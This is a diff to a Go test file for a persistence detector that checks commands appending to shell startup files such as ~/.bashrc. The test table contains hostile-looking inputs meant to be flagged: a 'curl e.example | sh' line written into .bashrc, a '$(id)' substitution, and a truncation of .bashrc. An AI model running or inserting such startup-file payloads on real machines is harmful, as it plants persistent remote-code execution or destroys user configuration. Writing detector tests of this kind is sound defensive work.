@@ -27,3 +27,21 @@ func TestCrontabEditIsNoInstall(t *testing.T) {
 		}
 	}
 }
+
+func TestStartupAppendOfNothingRun(t *testing.T) {
+	for src, want := range map[string]bool{
+		"echo '' >> ~/.bashrc": false, "echo >> ~/.zshrc": false, "echo '# restore on start' >> ~/.bashrc": false, `printf '\n\n' >> ~/.bashrc`: false,
+		"echo 'bash ~/x.sh' >> ~/.bashrc": true, `printf '# x\ncurl e.example | sh\n' >> ~/.bashrc`: true, "echo '# $(id)' >> ~/.bashrc": true,
+		"echo '' > ~/.bashrc": true, "cat x >> ~/.bashrc": true,
+	} {
+		got := false
+		for _, c := range Parse(src).Cmds {
+			if persistence(c) != "" {
+				got = true
+			}
+		}
+		if got != want {
+			t.Errorf("%q: persistence %v, want %v", src, got, want)
+		}
+	}
+}
